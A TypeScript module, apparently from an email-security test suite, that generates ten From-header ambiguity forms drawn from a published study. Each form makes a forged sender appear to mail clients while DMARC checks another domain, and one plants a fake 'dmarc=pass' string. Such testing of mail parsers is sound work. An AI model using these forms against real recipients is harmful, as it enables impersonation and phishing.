/**
 * From fields that different readers take for different authors: the "Composition Kills" classes (J. Chen,
 * V. Paxson, J. Jiang, USENIX Security 2020, §4 "inconsistencies between the SMTP/DMARC components and
 * the MUA"), each written the way the paper's test cases write it. The forged address is the one the
 * attacker wants shown; `own` is an address of its own, the one DMARC should end up evaluating.
 */

/** The ambiguity classes, one scenario each. */
export const FROM_FORMS = [
  'two-from-fields',
  'leading-whitespace',
  'folded-from',
  'sender-differs',
  'resent-from',
  'two-mailboxes',
  'encoded-word-address',
  'route-portion',
  'quoted-pair',
  'special-characters',
] as const;
export type FromForm = (typeof FROM_FORMS)[number];

/**
 * The header lines (CRLF-terminated) that stand in for the From field, and whether they must open the
 * message (a continuation line is only ambiguous as the very first line, where it extends whatever a
 * receiving MTA prepends).
 */
export function fromFieldLines(form: FromForm, forged: string, own: string): { lines: string; first: boolean } {
  const forgedDomain = forged.slice(forged.lastIndexOf('@') + 1);
  const b64 = (s: string) => `=?utf-8?B?${Buffer.from(s, 'utf8').toString('base64')}?=`;
  switch (form) {
    case 'two-from-fields':
      // One reader takes the first From field, another the last (RFC 5322 §3.6 allows exactly one).
      return { lines: `From: <${forged}>\r\nFrom: <${own}>\r\n`, first: false };
    case 'leading-whitespace':
      // The first line starts with a space: a continuation of the MX's last prepended trace field. Its
      // text is written to read as a DMARC pass for the forged domain inside that field.
      return { lines: ` From: <${own}>; dmarc=pass header.from=${forgedDomain}\r\nFrom: <${forged}>\r\n`, first: true };
    case 'folded-from':
      // Folding (RFC 5322 §2.2.3) between the display name and the address: unfolded, one mailbox.
      return { lines: `From: "Accounts"\r\n <${forged}>\r\n`, first: false };
    case 'sender-differs':
      // RFC 5322 §3.6.2: Sender names who transmitted it; DMARC looks only at From.
      return { lines: `From: <${own}>\r\nSender: <${forged}>\r\n`, first: false };
    case 'resent-from':
      // RFC 5322 §3.6.6: resent fields are informational; some clients show Resent-From as the sender.
      return { lines: `From: <${own}>\r\nResent-From: <${forged}>\r\n`, first: false };
    case 'two-mailboxes':
      return { lines: `From: ${forged}, <${own}>\r\n`, first: false };
    case 'encoded-word-address':
      // RFC 2047 §5 forbids an encoded word in an addr-spec; a reader that decodes it anyway shows the forged address.
      return { lines: `From: ${b64(forged)}, <${own}>\r\n`, first: false };
    case 'route-portion':
      // RFC 5322 §4.4 obsolete source route: one reader takes the route's host for the domain.
      return { lines: `From: <@${own.slice(own.lastIndexOf('@') + 1)}:${forged}>\r\n`, first: false };
    case 'quoted-pair':
      // A quoted-pair outside a quoted string: "\@" reads as a literal "@" to one reader, a separator to another.
      return { lines: `From: ${forged.replace('@', '\\@')}@${own.slice(own.lastIndexOf('@') + 1)}\r\n`, first: false };
    case 'special-characters':
      // An address as the display name before an angle-address: which one is the mailbox is a matter of precedence.
      return { lines: `From: ${forged} <${own}>\r\n`, first: false };
  }
}

/** `raw` with its From field replaced by the form's lines (put first when the form requires it). */
export function withFromForm(raw: Uint8Array, form: FromForm, forged: string, own: string): Uint8Array {
  const text = Buffer.from(raw).toString('latin1');
  const end = text.indexOf('\r\n\r\n');
  const head = text.slice(0, end + 2);
  const rest = text.slice(end + 2);
  const kept = head.split(/(?<=\r\n)(?![ \t])/).filter((f) => !/^from\s*:/i.test(f));
  const { lines, first } = fromFieldLines(form, forged, own);
  const out = first ? [lines, ...kept] : [kept[0] ?? '', lines, ...kept.slice(1)];
  return new Uint8Array(Buffer.from(out.join('') + rest, 'latin1'));
}
